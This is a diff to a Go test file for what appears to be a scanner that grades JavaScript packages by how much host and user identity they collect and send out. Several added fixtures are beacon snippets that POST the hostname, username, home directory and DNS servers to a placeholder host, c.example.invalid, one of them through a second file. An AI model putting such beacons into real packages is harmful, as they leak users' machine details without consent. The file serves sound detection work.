@@ -9,7 +9,12 @@ import (
 
 func TestFingerprint(t *testing.T) {
 	rt.Check(t, Fingerprint{}, []rt.Case{
-		{"beacon_payload", map[string]string{"index.js": `const os=require("os"),dns=require("dns");JSON.stringify({h:os.hostname(),u:os.userInfo().username,d:os.homedir(),s:dns.getServers()})`}, finding.SeverityHigh},
+		{"beacon_payload", map[string]string{"index.js": `const os=require("os"),dns=require("dns");fetch("https://c.example.invalid/b",{method:"POST",body:JSON.stringify({h:os.hostname(),u:os.userInfo().username,d:os.homedir(),s:dns.getServers()})})`}, finding.SeverityHigh},
+		// the request in another file of the package
+		{"beacon_sent_elsewhere", map[string]string{"index.js": `const os=require("os"),dns=require("dns");require("./send")(JSON.stringify({h:os.hostname(),u:os.userInfo().username,d:os.homedir(),s:dns.getServers()}))`,
+			"send.js": `module.exports = (b) => require("https").request({ hostname: "c.example.invalid", method: "POST" }).end(b)`}, finding.SeverityHigh},
+		// a metrics exporter pushing to the URL its user sets
+		{"exporter_user_url", map[string]string{"index.js": `const os=require("os"),dns=require("dns");module.exports=(url)=>fetch(url,{method:"POST",body:JSON.stringify({h:os.hostname(),u:os.userInfo().username,d:os.homedir(),s:dns.getServers()})})`}, finding.SeverityMedium},
 		{"two_facts", map[string]string{"index.js": `const os=require("os");log(os.hostname(), os.userInfo())`}, finding.SeverityMedium},
 		{"logger_hostname", map[string]string{"index.js": `const os=require("os");module.exports={host: os.hostname()}`}, finding.SeverityInfo},
 		// sizing a worker pool, finding a config file, anonymous telemetry
@@ -18,7 +23,7 @@ func TestFingerprint(t *testing.T) {
 		// next to one identity fact they are telemetry (low), next to two a
 		// fingerprint
 		{"telemetry", map[string]string{"index.js": `const os=require("os");post({h:os.hostname(),c:os.cpus(),m:os.totalmem(),r:os.release()})`}, finding.SeverityLow},
-		{"beacon_with_platform", map[string]string{"index.js": `const os=require("os");post({h:os.hostname(),u:os.userInfo().username,c:os.cpus(),r:os.release()})`}, finding.SeverityHigh},
+		{"beacon_with_platform", map[string]string{"index.js": `const os=require("os");post({h:os.hostname(),u:os.userInfo().username,c:os.cpus(),r:os.release()}); function post(b){ require("https").request("https://c.example.invalid/p",{method:"POST"}).end(JSON.stringify(b)) }`}, finding.SeverityHigh},
 		// a monitoring endpoint answers with the host's figures; the same
 		// figures sent out by the server's file are reconnaissance
 		{"monitor_endpoint", map[string]string{"index.js": `const os=require("os");require("http").createServer((q,res)=>res.end(JSON.stringify({h:os.hostname(),i:os.networkInterfaces(),c:os.cpus(),m:os.totalmem()}))).listen(9615)`}, finding.SeverityMedium},
